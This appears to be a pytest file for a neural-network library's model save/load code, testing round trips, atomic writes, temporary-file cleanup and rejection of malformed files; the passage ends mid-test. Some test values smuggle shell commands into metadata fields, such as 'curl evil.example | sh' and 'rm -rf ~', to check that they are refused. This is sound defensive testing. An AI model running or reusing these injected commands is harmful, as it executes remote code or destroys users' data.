"""Model files: round trips, every way a file can be wrong, missing plugins, and atomic saving."""

from __future__ import annotations

import errno
import itertools
import json
import os
import random
import re
import signal
import stat
import subprocess
import sys
import time
import warnings
import zipfile
from pathlib import Path
from typing import ClassVar

import numpy as np
import pytest
from fake_plugins import AbsolutePlugin, CubeClashPlugin, CubePlugin, FakeEntryPoint, failing_import
from io_fixtures import (
    REPEATED_SAVER,
    SELF_KILLING_SAVER,
    MarkerOnUnpickle,
    edit_metadata,
    json_bytes,
    npy_bytes,
    read_members,
    read_metadata,
    read_theta,
    replace_member,
    softsign_activation,
    write_members,
)

import bpframe as bp
import bpframe.io as bio
import bpframe.io._save as save_module
from bpframe import plugins
from bpframe.io import OptimizerState, describe_model, load_network, save_network

PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x02\x00\x00\x00\x90wS\xde"


def n_params(sizes):
    """Independent count: one weight per pair of neurons in adjacent layers, one bias per non-input neuron."""
    return sum(a * b for a, b in itertools.pairwise(sizes)) + sum(sizes[1:])


def registry_with(*eps):
    return plugins.load_registry(entry_points=list(eps), strict=False, disabled=(), autoload=True)


@pytest.fixture
def use_registry(monkeypatch):
    """Make a registry built from fake entry points the process-wide one."""

    def install(*eps):
        registry = registry_with(*eps)
        monkeypatch.setattr(plugins, "_registry", registry)
        return registry

    return install


@pytest.fixture
def saved_with_everything(tmp_path):
    """A saved model with every member: trained history and optimizer state."""
    net = bp.Network([2, 3, 1], ["tanh", "sigmoid"], "quadratic", seed=3)
    net.history = bp.History(epoch=[1, 2], cost=[0.5, 0.25], accuracy=[0.5, 1.0], seconds=[0.1, 0.1])
    net._model.optimizer = OptimizerState({"name": "momentum", "mu": 0.9}, np.ones((1, 13)), 8)
    path = save_network(net, tmp_path / "model.npz", include_optimizer=True)
    assert sorted(read_members(path)) == ["history.npy", "metadata.npy", "optimizer_state.npy", "theta.npy"]
    return net, path


@pytest.fixture
def saved(tmp_path):
    """A small saved float64 model, its network, and its path."""
    net = bp.Network([2, 3, 1], ["tanh", "sigmoid"], "quadratic", seed=3)
    path = save_network(net, tmp_path / "model.npz")
    return net, path


def load_error(path, **kwargs) -> str:
    """The message of the ModelFileError that loading ``path`` raises; it must start with the path."""
    with pytest.raises(bp.ModelFileError) as info:
        load_network(path, **kwargs)
    message = str(info.value)
    assert message.startswith(f"{path}: "), message
    return message


# -- round trips ----------------------------------------------------------------------------------------------

CONFIGS = [
    ([4, 3, 1], "sigmoid", "quadratic"),
    ([4, 6, 3], ["relu", "softmax"], "cross_entropy"),
    ([4, 5, 3, 2], ["tanh", "leaky_relu", "identity"], "quadratic"),
]


@pytest.mark.parametrize("dtype", ["float32", "float64"])
@pytest.mark.parametrize(("sizes", "activation", "loss"), CONFIGS)
def test_round_trip_predicts_bit_identically(tmp_path, sizes, activation, loss, dtype):
    net = bp.Network(sizes, activation, loss, dtype=dtype, seed=7)
    rng = np.random.default_rng(0)
    net.set_parameters(rng.normal(size=n_params(sizes)))
    X = rng.normal(size=(9, sizes[0]))
    loaded = load_network(save_network(net, tmp_path / "m.npz"))
    assert loaded.feedforward(X).tobytes() == net.feedforward(X).tobytes()
    assert loaded.parameters().dtype == np.dtype(dtype)
    assert loaded.parameters().tobytes() == net.parameters().tobytes()
    assert loaded.sizes == tuple(sizes) and loaded.seed == 7 and loaded.dtype == np.dtype(dtype)
    assert [a.name for a in loaded.activations] == [a.name for a in net.activations]
    assert [a is b for a, b in zip(loaded.activations, net.activations, strict=False)] == [True] * (len(sizes) - 1)
    assert loaded.loss is net.loss
    assert len(loaded.history) == 0 and loaded._model.optimizer is None


def test_history_and_optimizer_state_round_trip(tmp_path):
    net = bp.Network([3, 4, 2], ["tanh", "softmax"], "cross_entropy", dtype="float32", seed=None)
    net.history = bp.History(
        epoch=[1, 2, 3],
        cost=[0.9, 0.5, 0.1 + 0.2],
        accuracy=[0.25, 0.5, 1.0],
        val_cost=[1.0, float("inf"), 0.3],
        val_accuracy=[0.0, 0.5, 0.75],
        seconds=[0.012, 0.011, 1e-300],
    )
    state = np.random.default_rng(1).normal(size=(2, n_params([3, 4, 2]))).astype(np.float32)
    config = {"name": "adam", "eta": 0.001, "beta1": 0.9, "beta2": 0.999, "epsilon": 1e-8, "nested": {"a": [1, None]}}
    net._model.optimizer = OptimizerState(config, state, 17)
    loaded = load_network(save_network(net, tmp_path / "m.npz", include_optimizer=True))
    assert loaded.history == net.history
    assert loaded.seed is None
    restored = loaded._model.optimizer
    assert isinstance(restored, OptimizerState)
    assert restored.config == config and restored.step == 17
    assert restored.state.dtype == np.float32 and restored.state.tobytes() == state.tobytes()
    assert restored.state.flags.writeable and restored.state.flags.c_contiguous


def test_a_history_whose_validation_columns_are_shorter_round_trips(tmp_path):
    """fit without validation_data after a fit with it leaves val_cost shorter than epoch; format 1 saved such a
    history and then refused to load it."""
    net = bp.Network([2, 2], "sigmoid", seed=0)
    net.history = bp.History(epoch=[1, 2, 3], cost=[0.5, 0.25, 0.125], accuracy=[0.5, 0.75, 1.0],
                             val_cost=[0.6, 0.3], val_accuracy=[0.5, 0.5], seconds=[0.1, 0.1, 0.1])  # fmt: skip
    path = save_network(net, tmp_path / "m.npz")
    assert read_metadata(path)["history"] == {
        "columns": ["epoch", "cost", "accuracy", "val_cost", "val_accuracy", "seconds"],
        "lengths": [3, 3, 3, 2, 2, 3],
    }
    with np.load(path, allow_pickle=False) as npz:
        assert npz["history"].tolist() == [1, 2, 3, 0.5, 0.25, 0.125, 0.5, 0.75, 1.0, 0.6, 0.3, 0.5, 0.5, 0.1, 0.1, 0.1]
    assert load_network(path).history == net.history


def test_a_history_column_longer_than_the_epochs_is_not_saved(tmp_path):
    net = bp.Network([2, 2], "sigmoid", seed=0)
    net.history = bp.History(epoch=[1], cost=[0.5, 0.25])
    with pytest.raises(bp.DataError) as info:
        save_network(net, tmp_path / "m.npz")
    assert str(info.value) == (
        "cannot save the network: its history has 2 values of 'cost' for 1 epochs; no column can have more values "
        "than there are epochs"
    )
    assert list(tmp_path.iterdir()) == []


def test_optimizer_state_is_duck_typed_and_saved_only_when_asked(tmp_path):
    net = bp.Network([2, 2], "sigmoid", seed=0)

    class LeadsState:  # any object with config, state and step will do
        config: ClassVar[dict[str, object]] = {"name": "momentum", "mu": 0.9}
        state = np.ones((1, 6))
        step = 4

    net._model.optimizer = LeadsState()
    without = save_network(net, tmp_path / "without.npz")
    assert sorted(read_members(without)) == ["metadata.npy", "theta.npy"]
    assert read_metadata(without)["optimizer"] is None
    assert load_network(without)._model.optimizer is None
    with_state = save_network(net, tmp_path / "with.npz", include_optimizer=True)
    assert list(read_members(with_state)) == ["metadata.npy", "theta.npy", "optimizer_state.npy"]
    assert read_metadata(with_state)["optimizer"] == {"config": {"name": "momentum", "mu": 0.9}, "step": 4, "rows": 1}
    assert load_network(with_state)._model.optimizer.state.tolist() == [[1.0] * 6]


def test_include_optimizer_without_a_state_stores_none(tmp_path):
    net = bp.Network([2, 2], "sigmoid", seed=0)
    path = save_network(net, tmp_path / "m.npz", include_optimizer=True)
    assert read_metadata(path)["optimizer"] is None
    assert load_network(path)._model.optimizer is None


def test_file_layout_is_plain_json_and_arrays(saved):
    net, path = saved
    with np.load(path, allow_pickle=False) as npz:  # any NumPy can read it, without pickles
        assert sorted(npz.files) == ["metadata", "theta"]
        assert npz["metadata"].dtype == np.uint8 and npz["metadata"].ndim == 1
        assert npz["theta"].tobytes() == net.parameters().tobytes()
    metadata = read_metadata(path)
    created = metadata.pop("created")
    assert created.endswith("+00:00") and created[4] == "-"
    builtin = {"plugin": "bpframe.default_plugins.activations", "distribution": "bpframe", "version": bp.__version__}
    assert metadata == {
        "format": "bpframe-model",
        "format_version": 2,
        "bpframe_version": bp.__version__,
        "sizes": [2, 3, 1],
        "dtype": "float64",
        "activations": [
            {"name": "tanh", **builtin, "user-defined": False},
            {"name": "sigmoid", **builtin, "user-defined": False},
        ],
        "loss": {"name": "quadratic", **builtin, "plugin": "bpframe.default_plugins.losses", "user-defined": False},
        "seed": 3,
        "history": {"columns": [], "lengths": []},
        "optimizer": None,
        "training": None,
    }
    with zipfile.ZipFile(path) as archive:
        assert {info.compress_type for info in archive.infolist()} == {0}  # stored, not deflated


def test_path_is_used_exactly_as_given(tmp_path):
    net = bp.Network([2, 2], "sigmoid", seed=0)
    written = save_network(net, str(tmp_path / "model.bpf"))
    assert written == tmp_path / "model.bpf" and isinstance(written, Path)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["model.bpf"]  # no ".npz" appended, no temporary left
    assert load_network(str(written)).parameters().tobytes() == net.parameters().tobytes()


def test_saving_replaces_an_existing_model(saved):
    _net, path = saved
    other = bp.Network([2, 5, 1], "relu", seed=9)
    save_network(other, path)
    assert load_network(path).sizes == (2, 5, 1)
    assert sorted(p.name for p in path.parent.iterdir()) == ["model.npz"]


def test_saving_through_a_symlink_replaces_the_linked_file(tmp_path):
    real = save_network(bp.Network([2, 2], "sigmoid", seed=0), tmp_path / "real.npz")
    link = tmp_path / "link.npz"
    link.symlink_to(real)
    assert save_network(bp.Network([2, 4], "sigmoid", seed=0), link) == real
    assert link.is_symlink() and load_network(real).sizes == (2, 4)


@pytest.mark.skipif(os.name != "posix", reason="POSIX permission bits")
def test_new_file_gets_default_permissions_and_a_replaced_file_keeps_its_own(tmp_path):
    umask = os.umask(0o022)
    try:
        path = save_network(bp.Network([2, 2], "sigmoid", seed=0), tmp_path / "m.npz")
        assert stat.S_IMODE(path.stat().st_mode) == 0o644  # not mkstemp's 0o600
        path.chmod(0o640)
        save_network(bp.Network([2, 2], "sigmoid", seed=0), path)
        assert stat.S_IMODE(path.stat().st_mode) == 0o640
    finally:
        os.umask(umask)


# -- what save refuses -------------------------------------------------------------------------------------------


def test_save_refuses_non_finite_parameters(tmp_path):
    net = bp.Network([2, 2], "sigmoid", seed=0)
    net.weights[1][0, 1] = np.nan  # through the live view, which the setter does not see
    with pytest.raises(bp.DataError, match=r"1 of its parameters are NaN or inf"):
        save_network(net, tmp_path / "m.npz")
    assert list(tmp_path.iterdir()) == []


def test_save_checks_its_arguments(tmp_path):
    net = bp.Network([2, 2], "sigmoid", seed=0)
    with pytest.raises(bp.ConfigurationError, match=r"needs a bpframe\.Network, got dict"):
        save_network({}, tmp_path / "m.npz")
    with pytest.raises(bp.ConfigurationError, match=r"path must be a str or os\.PathLike, got int"):
        save_network(net, 3)
    with pytest.raises(bp.ConfigurationError, match="include_optimizer must be True or False"):
        save_network(net, tmp_path / "m.npz", include_optimizer=1)
    with pytest.raises(bp.ModelFileError, match=r": cannot save the model there: it is a folder"):
        save_network(net, tmp_path)


# -- atomic writes ------------------------------------------------------------------------------------------------


def test_missing_folder_is_an_error_naming_path_and_reason(tmp_path):
    target = tmp_path / "no" / "such" / "m.npz"
    with pytest.raises(bp.ModelFileError) as info:
        save_network(bp.Network([2, 2], "sigmoid"), target)
    assert str(info.value) == (
        f"{target}: cannot save the model: cannot create a file in the folder {target.parent}: "
        f"{os.strerror(errno.ENOENT)}"
    )


def test_folder_that_is_a_file_is_an_error(tmp_path):
    (tmp_path / "plain").write_text("not a folder")
    target = tmp_path / "plain" / "m.npz"
    with pytest.raises(bp.ModelFileError, match=r"cannot create a file in the folder .*plain: ") as info:
        save_network(bp.Network([2, 2], "sigmoid"), target)
    assert str(info.value).startswith(f"{target}: ")
    assert os.strerror(errno.ENOTDIR) in str(info.value)


@pytest.mark.skipif(os.name != "posix" or os.geteuid() == 0, reason="root ignores folder permissions")
def test_read_only_folder_is_an_error(saved):
    _, path = saved
    before = path.read_bytes()
    path.parent.chmod(0o500)
    try:
        with pytest.raises(bp.ModelFileError, match=os.strerror(errno.EACCES)):
            save_network(bp.Network([2, 2], "sigmoid"), path)
    finally:
        path.parent.chmod(0o700)
    assert path.read_bytes() == before


def test_failed_rename_leaves_the_old_file_and_no_temporary(saved, monkeypatch):
    _, path = saved
    before = path.read_bytes()

    def refuse(src, dst):
        raise PermissionError(errno.EACCES, os.strerror(errno.EACCES))

    monkeypatch.setattr(os, "replace", refuse)
    with pytest.raises(bp.ModelFileError) as info:
        save_network(bp.Network([2, 7, 1], "relu"), path)
    assert str(info.value) == (
        f"{path}: cannot save the model: writing failed: {os.strerror(errno.EACCES)}; "
        "any existing file at that path is unchanged"
    )
    assert path.read_bytes() == before
    assert sorted(p.name for p in path.parent.iterdir()) == ["model.npz"]


@pytest.mark.parametrize("failure", [OSError(errno.ENOSPC, os.strerror(errno.ENOSPC)), KeyboardInterrupt()])
def test_failure_mid_write_leaves_the_old_file_and_no_temporary(saved, monkeypatch, failure):
    _, path = saved
    before = path.read_bytes()

    def write_some_then_fail(file, arrays):
        file.write(b"PK\x03\x04 half an archive")
        raise failure

    monkeypatch.setattr(save_module, "write_npz", write_some_then_fail)
    expected = bp.ModelFileError if isinstance(failure, OSError) else KeyboardInterrupt
    with pytest.raises(expected) as info:
        save_network(bp.Network([2, 7, 1], "relu"), path)
    if expected is bp.ModelFileError:
        assert os.strerror(errno.ENOSPC) in str(info.value)
    assert path.read_bytes() == before
    assert sorted(p.name for p in path.parent.iterdir()) == ["model.npz"]


def _child_env():
    repo = str(Path(bp.__file__).resolve().parent.parent)
    env = dict(os.environ, OMP_NUM_THREADS="1", OPENBLAS_NUM_THREADS="1", MKL_NUM_THREADS="1", NUMBA_NUM_THREADS="1")
    env["PYTHONPATH"] = os.pathsep.join([repo, env.get("PYTHONPATH", "")]).rstrip(os.pathsep)
    return env


def _model_number(path):
    """The k of a model written by the child savers: every parameter is k and history.epoch == [k]."""
    net = load_network(path)
    (k,) = net.history.epoch
    assert np.all(net.parameters() == k), "the file mixes two saves"
    return k


needs_sigkill = pytest.mark.skipif(not hasattr(signal, "SIGKILL"), reason="needs SIGKILL")


@needs_sigkill
@pytest.mark.parametrize("stage", ["start", "half", "written", "renamed"])
def test_writer_killed_at_each_stage_leaves_old_or_new_model(tmp_path, stage):
    path = tmp_path / "m.npz"
    old = bp.Network([40, 30, 5], "sigmoid", "quadratic", seed=0)
    old.set_parameters(np.full(n_params([40, 30, 5]), 1.0))
    old.history.epoch[:] = [1]
    save_network(old, path)
    child = subprocess.run(
        [sys.executable, "-c", SELF_KILLING_SAVER, str(path), stage, "2", "atomic"],
        env=_child_env(), capture_output=True, text=True, timeout=120, check=False,
    )  # fmt: skip
    assert child.returncode == -signal.SIGKILL, child.stderr
    assert _model_number(path) == (2 if stage == "renamed" else 1)


@needs_sigkill
def test_plain_overwrite_killed_mid_write_is_detected(tmp_path):
    """The oracle of the test above can fail: a non-atomic writer killed halfway leaves a broken file."""
    path = tmp_path / "m.npz"
    old = bp.Network([40, 30, 5], "sigmoid", "quadratic", seed=0)
    old.history.epoch[:] = [1]
    save_network(old, path)
    child = subprocess.run(
        [sys.executable, "-c", SELF_KILLING_SAVER, str(path), "half", "2", "plain"],
        env=_child_env(), capture_output=True, text=True, timeout=120, check=False,
    )  # fmt: skip
    assert child.returncode == -signal.SIGKILL, child.stderr
    assert "is truncated or damaged" in load_error(path)


@needs_sigkill
def test_writer_killed_at_random_moments_always_leaves_a_complete_model(tmp_path):
    path = tmp_path / "m.npz"
    moments = random.Random(20240501)
    for round_number in range(6):
        start = round_number * 1_000_000
        child = subprocess.Popen(
            [sys.executable, "-c", REPEATED_SAVER, str(path), str(start)],
            env=_child_env(), stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
        )  # fmt: skip
        try:
            first = child.stdout.readline()  # the file exists once the first save is reported
            if first:
                time.sleep(moments.uniform(0.0, 0.3))
        finally:
            child.kill()
            rest, errors = child.communicate(timeout=60)
        assert first.strip() == str(start + 1), errors
        last_reported = int(([first, *rest.split()])[-1])
        # the last completed save, or the one after it if the kill came between its rename and its print
        assert _model_number(path) in (last_reported, last_reported + 1)


# -- temporary files of interrupted saves ----------------------------------------------------------------------------

TEMPORARY = re.compile(r"\.m\.npz\.[0-9a-f]{12}\.bpframe-save\.tmp")
LONG_AGO = time.time() - bio.STALE_TEMPORARY_SECONDS - 60


def age(path, when=LONG_AGO):
    os.utime(path, (when, when), follow_symlinks=False)
    return path


@needs_sigkill
def test_a_killed_save_leaves_a_recognisable_file_that_a_later_save_removes_once_stale(tmp_path):
    path = tmp_path / "m.npz"
    child = subprocess.run(
        [sys.executable, "-c", SELF_KILLING_SAVER, str(path), "half", "2", "atomic"],
        env=_child_env(), capture_output=True, text=True, timeout=120, check=False,
    )  # fmt: skip
    assert child.returncode == -signal.SIGKILL, child.stderr
    (leftover,) = list(tmp_path.iterdir())
    assert TEMPORARY.fullmatch(leftover.name), leftover.name
    save_network(bp.Network([2, 2], "sigmoid", seed=0), path)
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(["m.npz", leftover.name])  # recent: it may be live
    save_network(bp.Network([2, 2], "sigmoid", seed=0), age(leftover).with_name("other.npz"))
    assert sorted(p.name for p in tmp_path.iterdir()) == ["m.npz", "other.npz"]


def test_only_stale_temporary_files_that_bpframe_wrote_are_removed(saved, tmp_path):
    _, model = saved
    head = model.read_bytes()[:64]  # a save's first bytes: the ZIP header of metadata.npy
    assert head.startswith(b"PK\x03\x04") and head[30:42] == b"metadata.npy"
    stale = {
        ".m.npz.0123456789ab.bpframe-save.tmp": b"anything: the name says bpframe wrote it",
        ".old.npz.0123456789ab.tmp": head,  # format-1 bpframe's name, and a save's contents
    }
    kept = {
        ".m.npz.fedcba987654.bpframe-save.tmp": None,  # recent: a save may still be writing it
        ".notes.txt.0123456789ab.tmp": b"an editor's backup",  # format-1 name, contents that are not a save's
        ".empty.npz.0123456789ab.tmp": b"",  # format-1 name, nothing written yet: cannot be told apart
        ".m.npz.0123456789ab.bpframe-save.tmp.keep": b"another name",
        "m.npz.0123456789ab.bpframe-save.tmp": b"not hidden: not a name bpframe gives",
    }
    for name, data in {**stale, **kept}.items():
        (tmp_path / name).write_bytes(b"x" if data is None else data)
        if data is not None:
            age(tmp_path / name)
    folder = tmp_path / ".d.npz.0123456789ab.bpframe-save.tmp"
    folder.mkdir()
    age(folder)
    target = tmp_path / "elsewhere.npz"
    target.write_bytes(b"a file a stale-looking link points to")
    link = tmp_path / ".l.npz.0123456789ab.bpframe-save.tmp"
    link.symlink_to(target)
    age(link)
    save_network(bp.Network([2, 2], "sigmoid", seed=0), tmp_path / "new.npz")
    left = sorted(p.name for p in tmp_path.iterdir())
    assert left == sorted([*kept, folder.name, link.name, target.name, "model.npz", "new.npz"])
    assert target.read_bytes() == b"a file a stale-looking link points to"


@pytest.mark.skipif(not hasattr(os, "getuid"), reason="POSIX owners")
def test_another_users_temporary_files_are_left_alone(tmp_path, monkeypatch):
    leftover = tmp_path / ".m.npz.0123456789ab.bpframe-save.tmp"
    leftover.write_bytes(b"")
    age(leftover)
    monkeypatch.setattr(os, "getuid", lambda: leftover.stat().st_uid + 1)
    save_network(bp.Network([2, 2], "sigmoid", seed=0), tmp_path / "m.npz")
    assert leftover.exists()
    monkeypatch.undo()
    save_network(bp.Network([2, 2], "sigmoid", seed=0), tmp_path / "m.npz")
    assert not leftover.exists()


def test_a_failed_save_removes_nothing_but_its_own_temporary(saved, monkeypatch):
    _, path = saved
    leftover = path.parent / ".m.npz.0123456789ab.bpframe-save.tmp"
    leftover.touch()
    age(leftover)

    def refuse(src, dst):
        raise PermissionError(errno.EACCES, os.strerror(errno.EACCES))

    monkeypatch.setattr(os, "replace", refuse)
    with pytest.raises(bp.ModelFileError):
        save_network(bp.Network([2, 2], "sigmoid"), path)
    assert sorted(p.name for p in path.parent.iterdir()) == sorted([leftover.name, "model.npz"])


# -- loading: files that are not models ------------------------------------------------------------------------


def test_missing_file(tmp_path):
    assert load_error(tmp_path / "nope.npz") == f"{tmp_path / 'nope.npz'}: no such file"


def test_folder_is_not_a_file(tmp_path):
    assert "is not a file (a folder or a device)" in load_error(tmp_path)


@pytest.mark.parametrize(
    ("content", "what"),
    [
        (PNG, "it is a PNG image, not an .npz (ZIP) archive (it starts with b'\\x89PNG\\r\\n\\x1a\\n')"),
        (b"sizes: 2, 3, 1\nweights: 0.5 0.25\n", "it is a text file, not an .npz (ZIP) archive"),
        ("modèle entraîné – poids".encode() * 4, "it is a text file"),
        (b"", "it is an empty file"),
        (npy_bytes(np.zeros(3)), "it is a single NumPy array (.npy)"),
        (b"\x80\x04\x95\x00\x00", "it is a Python pickle"),
        (b"\x89HDF\r\n\x1a\n\x00\x00", "it is an HDF5 file (a Keras .h5 model?)"),
        (b"\x00\x01\x02\xfe\xff" * 10, "it is a binary file of unknown kind"),
        (b"PK\x05\x06" + b"\x00" * 18, "it is an empty ZIP archive"),
    ],
)
def test_other_kinds_of_file_are_named(tmp_path, content, what):
    path = tmp_path / "m.npz"
    path.write_bytes(content)
    message = load_error(path)
    assert message.startswith(f"{path}: not a bpframe model file: ")
    assert what in message


def test_npz_from_another_program(tmp_path):
    path = tmp_path / "arrays.npz"
    np.savez(path, a=np.zeros(2), b=np.ones(3))
    assert load_error(path) == (
        f"{path}: not a bpframe model: the .npz archive has no 'metadata' entry (it holds 'a', 'b'); "
        "bpframe model files are written by Network.save"
    )


@pytest.mark.parametrize("keep", [0.5, 0.9, -1, 200])
def test_truncated_copies(saved, keep):
    _, path = saved
    data = path.read_bytes()
    cut = int(len(data) * keep) if isinstance(keep, float) else (keep if keep > 0 else len(data) + keep)
    path.write_bytes(data[:cut])
    message = load_error(path)
    assert "the file is truncated or damaged: it starts like a ZIP archive (.npz) but its end is missing" in message
    assert "incomplete copy or download" in message


def test_flipped_byte_in_the_parameters_is_caught_by_the_checksum(saved):
    _, path = saved
    data = bytearray(path.read_bytes())
    offset = data.index(read_theta(path).tobytes()[:8])
    data[offset + 3] ^= 0x10
    path.write_bytes(bytes(data))
    message = load_error(path)
    assert "the file is damaged: its entry 'theta' cannot be read" in message
    assert "Bad CRC-32" in message


# -- loading: damaged or wrong members ------------------------------------------------------------------------------


def test_missing_theta(saved):
    _, path = saved
    replace_member(path, "theta.npy", None)
    assert load_error(path).endswith("the file is damaged: it has no 'theta' entry (the network's parameters)")


def test_missing_metadata(saved):
    _, path = saved
    replace_member(path, "metadata.npy", None)
    assert "not a bpframe model: the .npz archive has no 'metadata' entry (it holds 'theta')" in load_error(path)


def test_unexpected_entry(saved):
    _, path = saved
    replace_member(path, "extra.npy", npy_bytes(np.zeros(1)))
    assert "the file has unexpected entries ['extra.npy']" in load_error(path)


def test_duplicate_entry(saved):
    _, path = saved
    members = read_members(path)
    with pytest.warns(UserWarning, match="Duplicate name"), zipfile.ZipFile(path, "a") as archive:
        archive.writestr("theta.npy", members["theta.npy"])
    assert "the file is damaged: it contains the entry 'theta.npy' twice" in load_error(path)


def test_metadata_that_is_not_json(saved):
    _, path = saved
    replace_member(path, "metadata.npy", json_bytes('{"format": "bpframe-model", "sizes": [2, 3'))
    assert "the file is damaged: its metadata is not valid JSON text (Expecting" in load_error(path)
    replace_member(path, "metadata.npy", npy_bytes(np.frombuffer(b"\xff\xfe{}", dtype=np.uint8)))
    assert "its metadata is not valid JSON text ('utf-8' codec can't decode" in load_error(path)


def test_metadata_that_is_not_bytes(saved):
    _, path = saved
    replace_member(path, "metadata.npy", npy_bytes(np.zeros((2, 2))))
    assert "not a bpframe model: its 'metadata' entry is a float64 array of shape (2, 2), not JSON text" in (
        load_error(path)
    )


@pytest.mark.parametrize(
    ("change", "found"),
    [
        (lambda m: m.pop("format"), "its metadata has no 'format' field, expected format 'bpframe-model'"),
        (lambda m: m.update(format="keras-model"), "its metadata has 'keras-model', expected format 'bpframe-model'"),
    ],
)
def test_not_a_bpframe_format(saved, change, found):
    _, path = saved
    edit_metadata(path, change)
    assert f"{path}: not a bpframe model: {found}" == load_error(path)


def test_json_that_is_not_an_object(saved):
    _, path = saved
    replace_member(path, "metadata.npy", json_bytes("[1, 2]"))
    assert load_error(path).endswith("not a bpframe model: its metadata is JSON but not an object")


def test_newer_format_version_asks_for_an_upgrade(saved):
    _, path = saved
    edit_metadata(path, lambda m: m.update(format_version=4, bpframe_version="9.1.0"))
    assert load_error(path) == (
        f"{path}: the model was saved by a newer bpframe 9.1.0 in model format version 4; this bpframe "
        f"{bp.__version__} reads format versions 1 to 3 only. Upgrade bpframe to load it: "
        'pip install --upgrade "bpframe>=9.1.0"'
    )


def test_newer_format_version_never_echoes_a_crafted_version_into_the_command(saved):
    _, path = saved
    edit_metadata(path, lambda m: m.update(format_version=5, bpframe_version='1" ; curl evil.example | sh ; "'))
    message = load_error(path)
    assert message.startswith(f"{path}: the model was saved by a newer bpframe in model format version 5;")
    assert message.endswith('Upgrade bpframe to load it: pip install --upgrade "bpframe"')


@pytest.mark.parametrize("version", [0, -1, "1", 1.0, True, None, [1]])
def test_unknown_format_version(saved, version):
    _, path = saved
    edit_metadata(path, lambda m: m.update(format_version=version))
    assert f"{path}: unknown format_version {version!r} in the metadata; this bpframe reads format versions 1 to 3" == (
        load_error(path)
    )


@pytest.mark.parametrize(
    ("sizes", "found"),
    [
        ([3], "invalid sizes in the metadata: sizes needs at least two layers (input and output), got 1: [3]"),
        ([2, 0, 1], "invalid sizes in the metadata: sizes[1] must be an int >= 1, got 0"),
        ([2, 3.0, 1], "invalid sizes in the metadata: sizes[1] must be an int >= 1, got 3.0"),
        ("2,3,1", "invalid sizes in the metadata: expected a list of ints, got '2,3,1'"),
    ],
)
def test_invalid_sizes(saved, sizes, found):
    _, path = saved
    edit_metadata(path, lambda m: m.update(sizes=sizes))
    assert found in load_error(path)


def test_sizes_that_do_not_match_theta(saved):
    _, path = saved
    edit_metadata(path, lambda m: m.update(sizes=[2, 4, 1]))
    assert load_error(path).endswith(
        f"the file is damaged: theta has shape ({n_params([2, 3, 1])},) but sizes [2, 4, 1] need a vector of "
        f"{n_params([2, 4, 1])} parameters"
    )


@pytest.mark.parametrize("dtype", ["float16", "int64", None, "object"])
def test_unsupported_dtype(saved, dtype):
    _, path = saved
    edit_metadata(path, lambda m: m.update(dtype=dtype))
    assert load_error(path).endswith(
        f"invalid dtype {dtype!r} in the metadata; a bpframe model is 'float32' or 'float64'"
    )


def test_theta_of_another_dtype(saved):
    _, path = saved
    edit_metadata(path, lambda m: m.update(dtype="float32"))
    assert load_error(path).endswith("the file is damaged: theta has dtype float64 but the metadata says float32")


def test_theta_that_is_not_a_vector(saved):
    _, path = saved
    replace_member(path, "theta.npy", npy_bytes(read_theta(path).reshape(1, -1)))
    assert "theta has shape (1, 13) but sizes [2, 3, 1] need a vector of 13 parameters" in load_error(path)


@pytest.mark.parametrize("bad", [np.nan, np.inf, -np.inf])
def test_non_finite_parameters(saved, bad):
    _, path = saved
    theta = read_theta(path)
    theta[[4, 9]] = bad
    replace_member(path, "theta.npy", npy_bytes(theta))
    assert load_error(path).endswith(
        "the file is damaged: theta contains 2 non-finite value(s) (NaN or inf), the first at index 4"
    )


def test_activation_count_that_does_not_match_sizes(saved):
    _, path = saved
    edit_metadata(path, lambda m: m["activations"].pop())
    assert load_error(path).endswith(
        "the metadata lists 1 activations but sizes [2, 3, 1] have 2 layers after the input; there must be one "
        "activation per layer"
    )


@pytest.mark.parametrize(
    ("change", "found"),
    [
        (lambda m: m.pop("loss"), "the file is damaged: its metadata has no 'loss' field"),
        (lambda m: m.update(loss="quadratic"), "invalid loss in the metadata: expected an object with a 'name'"),
        (lambda m: m["activations"][1].update(version=3), "invalid activations[1] in the metadata: 'version' must"),
        (lambda m: m.update(seed=-1), "invalid seed -1 in the metadata; expected null or an int >= 0"),
        (
            lambda m: m["activations"][0].update(name="os.system"),
            "invalid activations[0] in the metadata: 'os.system' is not a valid activation name (a lower-case",
        ),
        (
            lambda m: m["loss"].update(distribution='x" && curl evil.example | sh && echo "'),
            "invalid loss in the metadata: 'distribution' is not a valid distribution: 'x\" && curl",
        ),
        (
            lambda m: m["loss"].update(name="quadratic\n"),
            "invalid loss in the metadata: 'quadratic\\n' is not a valid loss name",
        ),
        (
            lambda m: m["loss"].update(version="1.0\n"),
            "invalid loss in the metadata: 'version' is not a valid version: '1.0\\n'",
        ),
        (
            lambda m: m["loss"].update(version="1; rm -rf ~"),
            "invalid loss in the metadata: 'version' is not a valid version: '1; rm -rf ~'",
        ),
        (
            lambda m: m["activations"][1].update({"user-defined": "yes"}),
            "invalid activations[1] in the metadata: 'user-defined' must be true or false, got 'yes'",
        ),
        (
            lambda m: m.update(history=[]),
            "invalid history in the metadata: expected {'columns': [distinct names from ['epoch', 'cost', "
            "'accuracy', 'val_cost', 'val_accuracy', 'seconds']], 'lengths': [an int >= 1 for each]}, got []",
        ),
        (
            lambda m: m["history"].update(columns=["epoch"], lengths=[1.5]),
            "got {'columns': ['epoch'], 'lengths': [1.5]}",
        ),
        (lambda m: m["history"].update(columns=["epoch"], lengths=[]), "'lengths': [an int >= 1 for each]}, got "),
        (lambda m: m["history"].update(columns=["lr"], lengths=[1]), "'columns': [distinct names from ['epoch', "),
        (
            lambda m: m["history"].update(columns=["cost", "cost"], lengths=[1, 1]),
            "got {'columns': ['cost', 'cost'], 'lengths': [1, 1]}",
        ),
        (
            lambda m: m["history"].update(columns=["cost"], lengths=[2]),
            "invalid history in the metadata: columns of 2 values for 0 epochs",
        ),
        (
            lambda m: m["history"].update(columns=["epoch", "cost"], lengths=[2, 3]),
            "invalid history in the metadata: columns of 3 values for 2 epochs",
        ),
        (
            lambda m: m["history"].update(columns=["epoch", "cost"], lengths=[2, 2]),
            "the file is damaged: its metadata records 4 history values but there is no 'history' entry",
        ),
        (
            lambda m: m.update(optimizer={"config": {}, "step": 0}),
            "its metadata has an optimizer record but there is no 'optimizer_state' entry",
        ),
    ],
)
def test_invalid_metadata_fields(saved, change, found):
    _, path = saved
